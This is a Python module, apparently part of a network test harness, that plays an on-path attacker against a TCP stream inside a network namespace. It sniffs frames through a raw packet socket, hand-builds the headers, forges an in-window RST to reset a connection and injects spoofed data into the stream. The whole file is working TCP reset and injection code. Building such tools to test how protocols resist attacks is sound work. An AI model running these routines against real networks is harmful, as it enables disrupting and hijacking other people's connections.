"""An on-path attacker's tools against a TCP stream on a veth of the underlay: it sees
every frame and can send any. Run inside a node's namespace (``InNetns``), on the
interface the stream crosses. Pure stdlib: a packet socket, headers packed by hand."""

from __future__ import annotations

import socket
import struct
import time
from dataclasses import dataclass

ETH_P_ALL = 0x0003
TCP_RST, TCP_PSH_ACK = 0x04, 0x18


def checksum(b: bytes) -> int:
    if len(b) % 2:
        b += b"\0"
    total = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


@dataclass(frozen=True)
class Segment:
    """A data segment seen: its Ethernet addresses, ends and sequence numbers."""

    eth_src: bytes
    eth_dst: bytes
    src: str
    sport: int
    dst: str
    dport: int
    seq: int
    ack: int
    window: int
    options: bytes
    length: int

    @property
    def next_seq(self) -> int:
        return (self.seq + self.length) & 0xFFFFFFFF


def watch(sock: socket.socket, src: str, dst: str, dport: int, min_len: int,
          timeout: float) -> Segment | None:
    """The next segment from ``src`` to ``dst:dport`` carrying at least ``min_len`` bytes."""
    s_b, d_b = socket.inet_aton(src), socket.inet_aton(dst)
    end = time.monotonic() + timeout
    sock.settimeout(0.5)
    while time.monotonic() < end:
        try:
            frame = sock.recv(65536)
        except TimeoutError:
            continue
        if len(frame) < 54 or frame[12:14] != b"\x08\x00":
            continue
        ip = frame[14:]
        ihl = (ip[0] & 15) * 4
        if ip[9] != 6 or ip[12:16] != s_b or ip[16:20] != d_b:
            continue
        total = struct.unpack("!H", ip[2:4])[0]
        tcp = ip[ihl:total]
        sport, port, seq, ack, off_flags, window = struct.unpack("!HHIIHH", tcp[:16])
        doff = (off_flags >> 12) * 4
        if port != dport or len(tcp) - doff < min_len:
            continue
        return Segment(frame[6:12], frame[0:6], src, sport, dst, port, seq, ack, window,
                       bytes(tcp[20:doff]), len(tcp) - doff)
    return None


def send_segment(sock: socket.socket, eth_src: bytes, eth_dst: bytes, src: str, sport: int,
                 dst: str, dport: int, seq: int, ack: int, flags: int, window: int = 0,
                 options: bytes = b"", data: bytes = b"") -> None:
    s_b, d_b = socket.inet_aton(src), socket.inet_aton(dst)
    doff = 20 + len(options)
    tcp = struct.pack("!HHIIHHHH", sport, dport, seq, ack if flags & 0x10 else 0,
                      ((doff // 4) << 12) | flags, window, 0, 0) + options
    c = checksum(s_b + d_b + struct.pack("!BBH", 0, 6, len(tcp) + len(data)) + tcp + data)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp) + len(data),
                               0x4242, 0, 64, 6, 0, s_b, d_b))
    struct.pack_into("!H", ip, 10, checksum(bytes(ip)))
    sock.send(eth_dst + eth_src + b"\x08\x00" + bytes(ip) + tcp + data)


def _packet_socket(iface: str) -> socket.socket:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    return s


def reset_after(iface: str, src: str, dst: str, dport: int, min_len: int,
                timeout: float = 20.0) -> bool:
    """Wait for a segment ``src -> dst:dport`` of ``min_len`` bytes or more, then reset
    ``src``'s end of the stream with a RST from ``dst`` at exactly the sequence number
    ``src`` expects next (the ack it just sent): in window, as RFC 5961 asks."""
    with _packet_socket(iface) as s:
        seg = watch(s, src, dst, dport, min_len, timeout)
        if seg is None:
            return False
        send_segment(s, seg.eth_dst, seg.eth_src, dst, dport, src, seg.sport, seg.ack, 0,
                     TCP_RST)
        return True


def inject_after(iface: str, src: str, dst: str, dport: int, data: bytes, min_len: int = 1,
                 timeout: float = 20.0) -> bool:
    """Wait for a segment ``src -> dst:dport``, then send ``data`` as if from ``src``,
    right after it in the stream: ``dst``'s TCP takes it as the next bytes."""
    with _packet_socket(iface) as s:
        seg = watch(s, src, dst, dport, min_len, timeout)
        if seg is None:
            return False
        send_segment(s, seg.eth_src, seg.eth_dst, src, seg.sport, dst, dport, seg.next_seq,
                     seg.ack, TCP_PSH_ACK, seg.window, seg.options, data)
        return True
